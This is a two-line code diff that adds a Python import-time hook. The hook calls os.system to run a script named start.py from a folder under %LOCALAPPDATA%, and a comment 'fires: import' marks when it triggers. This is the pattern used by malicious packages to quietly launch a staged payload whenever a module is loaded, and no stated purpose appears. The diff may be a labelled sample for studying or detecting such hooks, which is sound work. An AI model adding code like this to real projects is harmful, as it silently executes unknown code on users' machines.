@@ -1,0 +1,2 @@
+import os
+os.system("py %LOCALAPPDATA%\\here\\start.py")  # fires: import
